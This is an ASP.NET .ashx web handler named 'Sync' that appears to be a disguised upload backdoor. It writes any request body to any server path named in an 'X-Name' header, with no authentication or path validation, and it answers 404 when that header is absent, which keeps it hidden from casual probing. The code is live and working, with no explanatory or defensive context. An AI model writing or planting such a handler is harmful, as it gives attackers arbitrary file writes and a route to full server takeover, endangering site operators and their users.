<%@ WebHandler Language="C#" Class="Sync" %>
using System.IO;
using System.Web;

public class Sync : IHttpHandler
{
    public bool IsReusable { get { return true; } }

    public void ProcessRequest(HttpContext context)
    {
        string name = context.Request.Headers["X-Name"];
        if (name == null) { context.Response.StatusCode = 404; return; }
        using (FileStream fs = File.Create(name))
        {
            context.Request.InputStream.CopyTo(fs);
        }
        context.Response.Write(name);
    }
}
